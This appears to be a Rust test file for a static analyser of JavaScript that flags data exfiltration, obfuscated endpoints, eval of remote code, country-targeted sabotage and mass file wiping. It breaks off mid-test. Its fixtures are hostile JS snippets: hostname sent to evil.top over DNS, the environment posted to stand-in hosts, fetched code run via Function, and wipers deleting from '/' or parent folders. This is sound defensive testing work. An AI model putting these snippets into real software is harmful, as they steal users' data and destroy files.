use super::*;
use telltale_facts::{DataKind, Effect, Kinds, SinkKind};

fn run(src: &str) -> FileFacts {
    analyze("t.js", src, &Options::default())
}

#[test]
fn alias_of_os_hostname_sent_over_dns_is_a_flow() {
    let f = run("const o = require('node:os'); const d = require('dns'); let h = `x.${o.hostname()}.evil.top`; d.lookup(h, () => {});");
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    assert!(f.flows[0].kinds.contains(DataKind::Hostname));
    assert_eq!(f.flows[0].sink, SinkKind::Dns);
    assert!(f.flows[0].steps.len() >= 2);
}

#[test]
fn hostname_compared_but_not_sent_is_no_flow() {
    let f = run("const os = require('os'); if (os.hostname() === 'ci') { require('https').get('https://example.com/x'); }");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
}

#[test]
fn proxy_env_sent_with_request_is_not_identity() {
    let f = run("const https = require('https'); https.get({ host: 'registry.npmjs.org', proxy: process.env.HTTPS_PROXY, env: process.env.NODE_ENV });");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
}

#[test]
fn env_keys_given_only_constants_are_named_variables() {
    // A bundle's lazy initialiser assigns the key later (`var K; … K = "QODER_X"`), or a
    // helper builds it with the build's prefix (`K = envName("CENTER_ENDPOINT")`): one
    // variable each, not the whole environment (qodercli 1.1.52).
    for src in [
        "var K; function endpoint() { return process.env[K]?.trim() || void 0; }
         var init = () => { K = 'QODER_INSTALL_TELEMETRY_OTLP_ENDPOINT'; };
         fetch(endpoint(), { method: 'POST' });",
        "var CN = Math.random() > 2; var PREFIX = CN ? 'QODERCN_' : 'QODER_';
         function envName(n) { return `${PREFIX}${n}`; }
         var K = envName('CENTER_ENDPOINT');
         fetch(process.env[K]?.trim(), { method: 'POST' });",
    ] {
        let f = run(src);
        assert!(f.flows.is_empty(), "{src}\n{:#?}", f.flows);
    }
    // A key computed from data still is any name.
    let any = run("var K = Object.keys(process.env)[3];
        fetch('https://t.example.com/c', { method: 'POST', body: process.env[K] });");
    assert!(
        any.flows
            .iter()
            .any(|f| f.kinds.contains(DataKind::WholeEnvironment)),
        "{:#?}",
        any.flows
    );
}

#[test]
fn env_read_by_names_from_a_constant_list_is_those_variables() {
    // qwen-code's git helper copies PATH, TEMP, … into a child's environment; the same object
    // later reaches a request only through its URL.
    let neg = run(
        "const environment = {};
        for (const key of ['PATH', 'SystemRoot', 'TEMP', 'TMPDIR']) {
          const value = process.env[key]; if (value !== undefined) environment[key] = value; }
        fetch('https://api.example.com/x', { method: 'POST', body: JSON.stringify(environment) });",
    );
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
    let names = run("const NAMES = ['USER', 'GITHUB_TOKEN'];
        const out = {}; for (const k of NAMES) out[k] = process.env[k];
        fetch('https://t.example.com/c', { method: 'POST', body: JSON.stringify(out) });");
    let kinds: Vec<_> = names.flows.iter().flat_map(|f| f.kinds.iter()).collect();
    assert!(kinds.contains(&DataKind::Username), "{:#?}", names.flows);
    assert!(
        !kinds.contains(&DataKind::WholeEnvironment),
        "{:#?}",
        names.flows
    );
    // A helper reading the variable its callers name reads those names.
    let helper = run("function getEnv(name) { return process.env[name]; }
        const project = getEnv('GOOGLE_CLOUD_PROJECT');
        fetch(`https://api.example.com/projects/${project}`);");
    assert!(helper.flows.is_empty(), "{:#?}", helper.flows);
    // Any name at all is the whole environment.
    let pos = run(
        "const out = {}; for (const k in process.env) out[k] = process.env[k];
        fetch('https://t.example.com/c', { method: 'POST', body: JSON.stringify(out) });",
    );
    assert!(
        pos.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::WholeEnvironment)),
        "{:#?}",
        pos.flows
    );
}

#[test]
fn route_handler_gets_a_client_request_not_the_server() {
    let neg = run("const express = require('express'); const app = express();
        app.locals.cwd = process.cwd();
        app.get('/suggest', async (req, res) => { const u = new URL(req.query.daemon);
          res.json(await (await fetch(`${u.origin}/paths`)).json()); });");
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
    // An emitter's callback still receives what it works on.
    let pos = run(
        "const os = require('os'); const s = require('stream').Readable.from([os.hostname()]);
        s.on('data', d => fetch('https://t.example.com/?h=' + d));",
    );
    assert!(
        pos.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
        "{:#?}",
        pos.flows
    );
}

#[test]
fn whole_env_posted_through_request_handle() {
    let f = run("const env = process.env; const https = require('https'); const r = https.request({host: 'x.example.com', method: 'POST'}); r.write(JSON.stringify(env)); r.end();");
    assert!(
        f.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::WholeEnvironment)),
        "{:#?}",
        f.flows
    );
}

#[test]
fn flow_through_function_return_and_parameter() {
    let f = run("const os = require('os'), https = require('https');
        function fp() { let c = os.userInfo(); return Buffer.from(c.username + c.homedir).toString('base64'); }
        function send(opts, body) { const e = https.request(opts); e.write(body); e.end(); }
        send({hostname: 'api.github.com'}, JSON.stringify({ body: `fp:${fp()}` }));");
    assert!(
        f.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::Username)),
        "{:#?}",
        f.flows
    );
}

#[test]
fn base64_geoip_url_and_country_name_guard_over_destructive_function() {
    let f = run(
        r#"import u from "path"; import a from "fs"; import o from "https";
        const n = Buffer.from("aHR0cHM6Ly9hcGkuaXBnZW9sb2NhdGlvbi5pby9pcGdlbz9hcGlLZXk9eA==", "base64");
        o.get(n.toString("utf8"), function (t) { t.on("data", function (t) {
            const c = Buffer.from("Y291bnRyeV9uYW1l", "base64"); const e = Buffer.from("cnVzc2lh", "base64");
            const s = JSON.parse(t.toString("utf8")); const v = s[c.toString("utf8")].toLowerCase();
            const hit = v.includes(e.toString("utf8")); if (hit) { h("./"); } }); });
        function h(n) { let r = []; try { r = a.readdirSync(n) } catch (x) {} for (var i = 0; i < r.length; i++) { const p = u.join(n, r[i]); a.writeFile(p, "x", function () {}); } }"#,
    );
    assert!(
        f.endpoints
            .iter()
            .any(|e| e.host == "api.ipgeolocation.io" && !e.encodings.is_empty()),
        "{:#?}",
        f.endpoints
    );
    assert!(
        f.obfuscations.iter().any(|o| o.decoded == "russia"),
        "{:#?}",
        f.obfuscations
    );
    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
    assert_eq!(f.region_guards[0].countries, vec!["RU"]);
    assert!(f.region_guards[0].effects.contains(&Effect::Destructive));
    assert!(f.destructive.iter().any(|d| d.mass));
}

#[test]
fn time_zone_list_with_early_return_guards_the_rest() {
    let f = run(
        r#"if (["Europe/Moscow", "Asia/Omsk"].indexOf(new Intl.DateTimeFormat().resolvedOptions().timeZone) === -1) { return; }
        console.log("hello");"#,
    );
    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
    assert_eq!(f.region_guards[0].countries, vec!["RU"]);
    assert_eq!(f.region_guards[0].effects, vec![Effect::Message]);
}

#[test]
fn minified_positive_index_guard() {
    let f = run(
        r#"var t;-1!==["Europe/Moscow","W-SU"].indexOf((new Intl.DateTimeFormat).resolvedOptions().timeZone)&&(t=function(){},alert("x"),window.open("http://x.org"));"#,
    );
    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
    assert!(f.region_guards[0].effects.contains(&Effect::UiSabotage));
}

#[test]
fn locale_regex_and_page_tld_guard() {
    let f = run(
        r#"if (typeof window !== 'undefined' && /^ru\b/.test(navigator.language) && location.host.match(/\.(ru|su|by|xn--p1ai)$/)) {
        setTimeout(() => { document.body.style.pointerEvents = 'none'; }, 500) }"#,
    );
    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
    assert!(f.region_guards[0].countries.contains(&"RU".to_string()));
    assert!(f.region_guards[0].effects.contains(&Effect::UiSabotage));
}

#[test]
fn locale_used_to_pick_a_translation_names_no_effect() {
    let f = run(
        r#"function msg() { if (navigator.language.startsWith("zh")) { return "你好"; } return "hello"; }"#,
    );
    assert!(
        f.region_guards.iter().all(|g| g.effects.is_empty()),
        "{:#?}",
        f.region_guards
    );
}

#[test]
fn time_zone_compared_with_utc_is_no_guard() {
    let f = run(
        r#"if (Intl.DateTimeFormat().resolvedOptions().timeZone === "UTC") { console.log("utc"); }"#,
    );
    assert!(f.region_guards.is_empty());
}

#[test]
fn function_constructor_from_folded_typeof_runs_network_data() {
    let f = run(
        r#"var http = require('http'); http.get({host: '1.2.3.4', path: '/u.json'}, function(response) {
        var body = ''; response.on('data', function(d) { body += d; });
        response.on('end', function() { var f = this[(typeof(this.Buffer.from)).charAt(0).toUpperCase() + (typeof(this.Buffer.from)).slice(1)]; o = new f(body); o(); }); });"#,
    );
    assert_eq!(f.dynamic_code.len(), 1, "{:#?}", f.dynamic_code);
    assert_eq!(f.dynamic_code[0].api, "Function");
}

#[test]
fn eval_of_constant_is_not_network_code() {
    let f = run("eval('1+1'); setTimeout(function(){}, 10);");
    assert!(f.dynamic_code.is_empty());
}

#[test]
fn telemetry_host_in_plain_string_is_an_endpoint() {
    let f = run("module.exports = { host: 'api.mixpanel.com', docs: 'see lodash.merge' };");
    assert!(f.endpoints.iter().any(|e| e.host == "api.mixpanel.com"));
    assert!(!f.endpoints.iter().any(|e| e.host == "lodash.merge"));
}

#[test]
fn plain_base64_of_boring_text_is_not_obfuscation() {
    let f = run("const x = Buffer.from('aGVsbG8gd29ybGQ=', 'base64').toString();");
    assert!(f.obfuscations.is_empty());
}

#[test]
fn char_codes_decode() {
    let f = run("const m = String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,116,111,112,47);");
    assert!(
        f.endpoints.iter().any(|e| e.host == "evil.top"),
        "{:#?}",
        f.endpoints
    );
}

#[test]
fn deep_nesting_does_not_overflow() {
    let depth = 10_000;
    let src = format!("var x = {}1{};", "(".repeat(depth), ")".repeat(depth));
    let handle = std::thread::Builder::new()
        .stack_size(256 << 20)
        .spawn(move || run(&src))
        .unwrap();
    let _ = handle.join().unwrap();
}

#[test]
fn garbage_does_not_panic() {
    for src in [
        "}{",
        "function (",
        "\u{0}\u{1}\u{2}",
        "`${",
        "/[/",
        "a?.b?.(",
        "import(",
        "",
    ] {
        let _ = run(src);
    }
}

#[test]
fn typescript_parses() {
    let f = analyze(
        "x.ts",
        "import * as os from 'os'; const h: string = os.hostname(); fetch(`https://x.io/?h=${h}`);",
        &Options::default(),
    );
    assert_eq!(f.flows.len(), 1, "{:#?} {:?}", f.flows, f.diagnostics);
}

#[test]
fn file_read_at_home_path_is_not_the_home_directory() {
    let f = run(
        "const os = require('os'), net = require('net'); const load = () => require('fs');
        const cfg = JSON.parse(load().readFileSync(os.homedir() + '/.app/lock.json', 'utf8'));
        net.createConnection({ host: cfg.host, port: cfg.port });",
    );
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
}

#[test]
fn constant_code_passed_to_eval_is_analysed_as_nested_source() {
    let f = run(
        r#"const p = Buffer.from("cmVxdWlyZSgiaHR0cHMiKS5nZXQoImh0dHBzOi8veC5leGFtcGxlLmNvbS8/dT0iICsgcmVxdWlyZSgib3MiKS51c2VySW5mbygpLnVzZXJuYW1lKQ==", "base64").toString(); eval(p);"#,
    );
    assert_eq!(f.nested.len(), 1, "{:#?}", f.diagnostics);
    let inner = &f.nested[0];
    assert_eq!(inner.facts.file, "t.js › eval#1");
    assert!(
        inner
            .facts
            .flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::Username)),
        "{:#?}",
        inner.facts.flows
    );
    // Locations index the nested code.
    let flow = &inner.facts.flows[0];
    assert!(inner.text[flow.span.start as usize..].starts_with("require(\"https\").get"));
    assert!(f
        .obfuscations
        .iter()
        .any(|o| o.technique.contains("code run by eval")));
}

#[test]
fn function_constructor_body_is_the_last_argument() {
    let f = run(r#"const g = new Function("a", "return require('os').hostname() + a"); g(1);"#);
    assert_eq!(f.nested.len(), 1);
    assert!(f.nested[0]
        .facts
        .sources
        .iter()
        .any(|s| s.kind == DataKind::Hostname));
}

#[test]
fn nested_eval_depth_is_bounded() {
    // Each level evals a string holding the next level.
    let mut code = String::from("require('os').hostname();");
    for _ in 0..8 {
        code = format!("eval({});", serde_json_escape(&code));
    }
    let f = run(&code);
    let depth = f
        .nested
        .iter()
        .map(|n| n.facts.file.matches("eval#").count())
        .max()
        .unwrap_or(0);
    assert!(depth <= 4, "depth {depth}");
    let all_diags: Vec<&String> = std::iter::once(&f.diagnostics)
        .chain(f.nested.iter().map(|n| &n.facts.diagnostics))
        .flatten()
        .collect();
    assert!(
        all_diags
            .iter()
            .any(|d| d.contains("nesting or size limit")),
        "{all_diags:?}"
    );
}

#[test]
fn short_or_non_code_strings_are_not_nested_sources() {
    let f = run(r#"eval("x"); setTimeout("hello there, world!!", 10);"#);
    assert!(
        f.nested.is_empty(),
        "{:#?}",
        f.nested.iter().map(|n| &n.text).collect::<Vec<_>>()
    );
}

fn serde_json_escape(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

#[test]
fn identity_under_a_telemetry_attribute_key_is_a_flow() {
    let f = run("const os = require('os'); class C { constructor(o) { this.o = { serverName: o.serverName || process.env.SENTRY_NAME || os.hostname() }; } }
        const attrs = { [semconv.SEMRESATTRS_HOST_NAME]: os.hostname(), other: 1 };");
    let sinks: Vec<&str> = f.flows.iter().map(|fl| fl.sink_api.as_str()).collect();
    assert!(
        sinks.contains(&"telemetry attribute serverName"),
        "{sinks:?}"
    );
    assert!(
        sinks.contains(&"telemetry attribute SEMRESATTRS_HOST_NAME"),
        "{sinks:?}"
    );
    assert!(
        f.flows
            .iter()
            .all(|fl| fl.sink == SinkKind::TelemetryAttribute
                && fl.kinds.contains(DataKind::Hostname))
    );
}

#[test]
fn value_under_an_e_mail_attribute_key_is_the_users_e_mail() {
    // gemini-cli's common telemetry attributes: the cached Google account, read through an
    // account manager, stored as `user.email`.
    let f = run("function getCommonAttributes(config) {
          const email = userAccountManager.getCachedGoogleAccount();
          return { 'session.id': config.getSessionId(), ...email && { 'user.email': email } };
        }");
    assert!(
        f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Email)
            && fl.sink == SinkKind::TelemetryAttribute
            && fl.steps[0].what.contains("user.email")),
        "{:#?}",
        f.flows
    );
    // A constant address, or an `email` key of an ordinary object, is no user's e-mail.
    let neg = run("const a = { 'user.email': 'noreply@example.com' };
        const form = { email: input.value, name: input.name };");
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
}

#[test]
fn non_identity_under_a_telemetry_attribute_key_is_quiet() {
    let f = run("const attrs = { serverName: 'api', 'host.name': cfg.name };");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
}

#[test]
fn require_made_by_create_require_loads_modules() {
    let f = run("import { createRequire as c } from 'node:module'; var r = c(import.meta.url); var o = r('os'); fetch('https://x.example.com/?h=' + o.hostname());");
    assert!(
        f.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
        "{:#?}",
        f.flows
    );
}

#[test]
fn awaited_dynamic_import_is_the_module() {
    let f = run(
        "const os = await import('node:os'); fetch('https://x.example.com/?h=' + os.hostname());",
    );
    assert!(
        f.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
        "{:#?}",
        f.flows
    );
    // A module whose name is not known names nothing.
    let f = run("const m = await import(process.argv[2]); fetch('https://x.example.com/?h=' + m.hostname());");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
}

fn opt_outs(f: &FileFacts) -> Vec<(String, String)> {
    f.opt_outs
        .iter()
        .map(|o| (o.setting.clone(), o.check.clone()))
        .collect()
}

#[test]
fn early_return_on_an_opt_out_gates_the_send() {
    let f = run("const os = require('os'), https = require('https');
        function report() { if (process.env.DISABLE_TELEMETRY || process.env.DO_NOT_TRACK) return; https.request({ host: 't.example.com', path: '/?h=' + os.hostname() }).end(); }");
    assert_eq!(
        opt_outs(&f),
        vec![
            ("DISABLE_TELEMETRY".into(), "presence".into()),
            ("DO_NOT_TRACK".into(), "presence".into())
        ]
    );
    assert_eq!(
        f.flows[0].gated_by,
        vec!["DISABLE_TELEMETRY", "DO_NOT_TRACK"]
    );
    assert!(
        f.opt_outs[0]
            .gated_calls
            .iter()
            .any(|c| c.starts_with("https.request")),
        "{:?}",
        f.opt_outs[0].gated_calls
    );
}

#[test]
fn value_check_alias_and_predicate_function() {
    let f = run("const off = process.env.MYTOOL_TELEMETRY === '0'; function telemetryOff() { return off; }
        if (!telemetryOff()) { fetch('https://t.example.com', { body: require('os').userInfo().username }); }");
    assert_eq!(
        opt_outs(&f),
        vec![("MYTOOL_TELEMETRY".into(), "value".into())]
    );
    assert_eq!(f.opt_outs[0].values, vec!["0"]);
    assert_eq!(f.flows[0].gated_by, vec!["MYTOOL_TELEMETRY"]);
}

#[test]
fn gate_reaches_local_functions_called_from_gated_code() {
    let f = run(
        "function send() { fetch('https://t.example.com', { body: require('os').hostname() }); }
        process.env.DO_NOT_TRACK || send();",
    );
    assert_eq!(f.flows.len(), 1);
    assert_eq!(f.flows[0].gated_by, vec!["DO_NOT_TRACK"]);
}

#[test]
fn config_key_is_an_opt_out() {
    let f = run("const cfg = vscode.workspace.getConfiguration('telemetry'); if (cfg.get('telemetryLevel') === 'off') { return; } sendEvent();");
    assert_eq!(
        opt_outs(&f),
        vec![("telemetry.telemetryLevel".into(), "value".into())]
    );
}

#[test]
fn ungated_send_and_ordinary_env_checks_are_not_opt_outs() {
    let f = run("if (process.env.NODE_ENV === 'production') { fetch('https://t.example.com', { body: require('os').hostname() }); }");
    assert!(f.opt_outs.is_empty());
    assert!(f.flows[0].gated_by.is_empty());
}

#[test]
fn fields_with_literal_keys_are_separate_values() {
    // The URL field is sent, the hostname field is not.
    let f = run("const os = require('os'), https = require('https');
        const cfg = { url: 'https://api.example.com/v1', host: os.hostname() };
        cfg.path = '/x'; cfg['user'] = os.userInfo().username;
        https.get(cfg.url); https.get(cfg['path']);");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
}

#[test]
fn field_read_whole_object_and_nested_write_still_flow() {
    let f = run("const os = require('os'), https = require('https');
        const info = { v: 1 }; info.meta = {}; info.meta.host = os.hostname();
        https.get('https://t.example.com/?h=' + info.meta.host);
        const o = { a: os.userInfo().username }; https.request({ host: 't.example.com' }).end(JSON.stringify(o));");
    assert!(
        f.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
        "{:#?}",
        f.flows
    );
    assert!(
        f.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::Username)),
        "{:#?}",
        f.flows
    );
}

#[test]
fn object_argument_fields_reach_parameter_reads() {
    // `opts.body` carries the hostname, `opts.url` does not.
    let pos = run("const os = require('os');
        function send(opts) { fetch(opts.url, { method: 'POST', body: opts.body }); }
        send({ url: 'https://t.example.com/e', body: os.hostname() });");
    assert!(
        pos.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
        "{:#?}",
        pos.flows
    );
    let neg = run("const os = require('os');
        function send(opts) { fetch(opts.url); }
        send({ url: 'https://t.example.com/e', body: os.hostname() });");
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
}

#[test]
fn fields_of_a_local_passed_by_name_stay_apart() {
    // claude-code's relay: a CA-bundle path under the home directory sits in the same options
    // object as the base URL; the callee destructures the URL and fetches it.
    let neg = run("const os = require('os'), path = require('path');
        async function connect(e) { const { baseUrl: i, caBundlePath: u } = e;
          const ws = new WebSocket(i.replace(/^http/, 'ws') + '/ws');
          return relay(e); }
        function relay(opts) { return fetch(opts.baseUrl + '/ca-cert'); }
        const base = process.env.CCR_BASE_URL ?? 'https://api.example.com';
        const ca = path.join(os.homedir(), '.ccr', 'ca-bundle.crt');
        const cfg = { baseUrl: base, caBundlePath: ca };
        connect(cfg);");
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
    // The field that holds the data is still carried, and the whole object when passed on.
    let pos = run("const os = require('os');
        function report(e) { const { body: b } = e; fetch('https://t.example.com/e', { method: 'POST', body: b }); }
        function dump(e) { fetch('https://t.example.com/d', { method: 'POST', body: JSON.stringify(e) }); }
        function both(e) { report(e); dump(e); }
        const ev = { url: 'https://t.example.com', body: os.hostname() };
        both(ev);");
    assert_eq!(
        pos.flows
            .iter()
            .filter(|fl| fl.kinds.contains(DataKind::Hostname))
            .count(),
        2,
        "{:#?}",
        pos.flows
    );
}

#[test]
fn field_flow_steps_name_the_property_write() {
    let f = run("const os = require('os'), https = require('https');
        const ev = {}; ev.machine = os.hostname();
        https.get('https://t.example.com/?m=' + ev.machine);");
    let steps: Vec<&str> = f.flows[0].steps.iter().map(|s| s.what.as_str()).collect();
    assert!(
        steps
            .iter()
            .any(|s| s.contains("ev.machine = os.hostname()")),
        "{steps:#?}"
    );
    assert!(
        steps
            .first()
            .is_some_and(|s| s.starts_with("reads os.hostname")),
        "{steps:#?}"
    );
}

#[test]
fn destination_from_constant_url_start_and_request_handle() {
    let f = run("const os = require('os'), https = require('https');
        fetch('https://t.example.com/c?h=' + os.hostname());
        const r = https.request({ hostname: 'collect.example.net', method: 'POST' }); r.end(os.userInfo().username);
        fetch(`https://${os.hostname()}.example.org/`);");
    let hosts: Vec<Vec<String>> = f.flows.iter().map(|fl| fl.endpoints.clone()).collect();
    assert!(
        hosts.contains(&vec!["t.example.com".to_string()]),
        "{hosts:?}"
    );
    assert!(
        hosts.contains(&vec!["collect.example.net".to_string()]),
        "{hosts:?}"
    );
    // The host itself is built from data: no constant destination.
    assert!(hosts.iter().any(|h| h.is_empty()), "{hosts:?}");
}

/// Where `needle` first occurs in `src`, as `literal at line:col` (1-based, column in bytes),
/// counted here rather than with the front end's line index.
pub(crate) fn literal_at(src: &str, needle: &str) -> String {
    let at = src
        .find(needle)
        .unwrap_or_else(|| panic!("{needle} not in source"));
    location(src, at as u32)
}

pub(crate) fn location(src: &str, at: u32) -> String {
    let before = &src[..at as usize];
    let line = before.matches('\n').count() + 1;
    let col = before.len() - before.rfind('\n').map_or(0, |i| i + 1) + 1;
    format!("literal at {line}:{col}")
}

/// The obfuscation fact of a decoded value.
fn obfuscation<'f>(f: &'f FileFacts, decoded: &str) -> &'f telltale_facts::ObfuscationFact {
    f.obfuscations
        .iter()
        .find(|o| o.decoded == decoded)
        .unwrap_or_else(|| panic!("{decoded} not decoded: {:#?}", f.obfuscations))
}

/// Analyse `src` and check that `decoded` is traced to `technique` and the first `literal`.
fn assert_provenance(src: &str, decoded: &str, technique: &str, literal: &str) -> FileFacts {
    let f = run(src);
    assert_eq!(
        obfuscation(&f, decoded).provenance,
        format!("{technique} → {}", literal_at(src, literal))
    );
    f
}

fn b64(s: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn base64_provenance_names_the_literal_behind_a_variable() {
    let url = "https://prov-b64.example.net/c";
    let lit = format!("\"{}\"", b64(url));
    // The literal is declared two lines above the decoding call, not at the line's start.
    let src = format!("const https = require('https');\nconst pad = 1;   const k = {lit};\n\nconst u = atob(k);\nhttps.get(u);\n");
    let f = assert_provenance(&src, url, "base64", &lit);
    let o = obfuscation(&f, url);
    let start = src.find(&lit).unwrap() as u32;
    assert_eq!(
        o.origin,
        Some(telltale_facts::Span::new(start, start + lit.len() as u32))
    );
    // The decoding call is elsewhere: the span stays where the value is decoded.
    assert_eq!(o.span.start, src.find("atob(k)").unwrap() as u32);
    let e = f
        .endpoints
        .iter()
        .find(|e| e.host == "prov-b64.example.net")
        .expect("endpoint");
    assert_eq!(
        (e.provenance.as_str(), e.origin),
        (o.provenance.as_str(), o.origin)
    );
}

#[test]
fn hex_provenance() {
    let url = "https://prov-hex.example.net/";
    let lit = format!("'{}'", hex(url));
    let src = format!(
        "const a = 'https://plain.example.com/';\n  fetch(Buffer.from({lit}, 'hex').toString());\n"
    );
    assert_provenance(&src, url, "hex", &lit);
}

#[test]
fn base64_then_hex_provenance_names_the_outer_literal() {
    let url = "https://prov-nested.example.net/x";
    let lit = format!("\"{}\"", b64(&hex(url)));
    let src = format!("const h = Buffer.from(\n    {lit}, \"base64\").toString();\nconst u = Buffer.from(h, \"hex\").toString();\nrequire('https').get(u);\n");
    assert_provenance(&src, url, "base64 → hex", &lit);
}

#[test]
fn split_literal_provenance_names_the_first_part() {
    let encoded = b64("https://prov-split.example.net/");
    let (a, b) = encoded.split_at(10);
    let src = format!("const x = 1;\nfetch(atob('{a}' +\n  '{b}'));\n");
    assert_provenance(
        &src,
        "https://prov-split.example.net/",
        "base64",
        &format!("'{a}'"),
    );
}

#[test]
fn char_code_provenance_names_the_array_or_first_code() {
    let codes = |s: &str| {
        s.bytes()
            .map(|b| b.to_string())
            .collect::<Vec<_>>()
            .join(", ")
    };
    let (u1, u2) = (
        "https://prov-cc1.example.org/",
        "https://prov-cc2.example.org/",
    );
    let arr = format!("[{}]", codes(u1));
    let list = codes(u2);
    let src = format!("const n = [1, 2];\nconst codes = {arr};\nconst a = String.fromCharCode.apply(null, codes);\nconst b = String.fromCharCode(\n  {list});\n");
    assert_provenance(&src, u1, "char-codes", &arr);
    assert_provenance(&src, u2, "char-codes", &list);
}

#[test]
fn hidden_code_provenance_names_its_literal() {
    let lit = format!("'{}'", b64("const os = require('os'); fetch('https://nested.example.net/', { body: os.hostname() });"));
    let src = format!("const a = 0;\n  eval(atob({lit}));\n");
    let f = run(&src);
    let o = f
        .obfuscations
        .iter()
        .find(|o| o.technique == "base64 → code run by eval")
        .unwrap_or_else(|| panic!("{:#?}", f.obfuscations));
    assert_eq!(o.provenance, format!("base64 → {}", literal_at(&src, &lit)));
}

#[test]
fn writing_computed_output_for_each_listed_file_is_no_wiper() {
    // A build step: each template compiled into a new file.
    let build = run("const fs = require('fs'), path = require('path');
        fs.readdirSync('./tpl').forEach(function (f) { const code = compile(fs.readFileSync(path.join('./tpl', f))); fs.writeFileSync(path.join('./out', f + '.js'), code); });");
    assert!(
        build.destructive.iter().all(|d| !d.mass),
        "{:#?}",
        build.destructive
    );
    // A wiper: the same content over every listed file.
    let wiper = run("const fs = require('fs'), path = require('path');
        fs.readdirSync('../').forEach(function (f) { fs.writeFileSync(path.join('../', f), '\\u2764'); });");
    assert!(
        wiper.destructive.iter().any(|d| d.mass),
        "{:#?}",
        wiper.destructive
    );
}

#[test]
fn deleting_entries_of_an_own_folder_is_cleanup_but_of_parents_is_wiping() {
    let cleanup = run(
        "const fs = require('fs'), path = require('path'), os = require('os');
        const dir = path.join(os.tmpdir(), 'mytool-cache');
        for (const f of fs.readdirSync(dir)) fs.unlinkSync(path.join(dir, f));",
    );
    assert!(
        cleanup.destructive.iter().all(|d| !d.mass),
        "{:#?}",
        cleanup.destructive
    );
    let wiper = run("const fs = require('fs'), path = require('path');
        for (const f of fs.readdirSync('../../')) fs.rmSync(path.join('../../', f), { recursive: true });");
    assert!(
        wiper.destructive.iter().any(|d| d.mass),
        "{:#?}",
        wiper.destructive
    );
}

#[test]
fn a_listing_of_the_working_directory_elsewhere_does_not_make_cleanup_wiping() {
    // One bundle: a project file picker lists the working directory; a sandbox cleanup
    // deletes the entries of its own mount folder.
    let f = run("const fs = require('fs'), path = require('path'), os = require('os');
        function pick() { return fs.readdirSync('.').filter(n => n.endsWith('.json')); }
        function cleanup() { const d = path.join(os.tmpdir(), 'sandbox-mounts');
            for (const o of fs.readdirSync(d)) { if (fs.statSync(path.join(d, o)).size === 0) fs.unlinkSync(path.join(d, o)); } }");
    assert!(
        f.destructive.iter().all(|d| !d.mass),
        "{:#?}",
        f.destructive
    );
}

#[test]
fn a_walker_started_on_the_root_by_any_caller_is_wiping() {
    // The listed folder is a parameter: recursive calls pass subfolders, the first call `/`.
    let f = run("const fs = require('fs'), path = require('path');
        function walk(dir) { for (const e of fs.readdirSync(dir)) { const p = path.join(dir, e);
            if (fs.statSync(p).isDirectory()) walk(p); else fs.unlinkSync(p); } }
        walk('/'); walk(process.argv[2]);");
    assert!(f.destructive.iter().any(|d| d.mass), "{:#?}", f.destructive);
    // The same walker started only on its own folder cleans up.
    let own = run(
        "const fs = require('fs'), path = require('path'), os = require('os');
        function walk(dir) { for (const e of fs.readdirSync(dir)) { const p = path.join(dir, e);
            if (fs.statSync(p).isDirectory()) walk(p); else fs.unlinkSync(p); } }
        walk(path.join(os.tmpdir(), 'build-cache'));",
    );
    assert!(
        own.destructive.iter().all(|d| !d.mass),
        "{:#?}",
        own.destructive
    );
}

#[test]
fn exclusive_create_for_each_listed_name_destroys_nothing() {
    let f = run("const fs = require('fs');
        for (const f of fs.readdirSync('../')) fs.writeFileSync(f + '.lock', '', { flag: 'wx' });");
    assert!(
        f.destructive.iter().all(|d| !d.mass),
        "{:#?}",
        f.destructive
    );
}

/// `looks_minified` skips most of the text; it must answer as a plain scan of every line does.
#[test]
fn looks_minified_matches_a_scan_of_every_line() {
    fn plain(src: &[u8]) -> bool {
        let lines = src.iter().filter(|b| **b == b'\n').count() + 1;
        src.len() / lines > 400 || src.split(|b| *b == b'\n').any(|l| l.len() > 5000)
    }
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut next = |n: u64| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed % n
    };
    for case in 0..400 {
        let mut src = Vec::new();
        let lines = next(40) + 1;
        for _ in 0..lines {
            // Mostly short lines, sometimes one near or over the limits.
            let len = match next(10) {
                0 => 4990 + next(20),
                1 => next(12_000),
                2 => 2499 + next(3),
                _ => next(120),
            };
            src.extend(std::iter::repeat_n(b'x', len as usize));
            if next(8) != 0 {
                src.push(b'\n');
            }
        }
        assert_eq!(
            crate::looks_minified(&src),
            plain(&src),
            "case {case}: {} bytes",
            src.len()
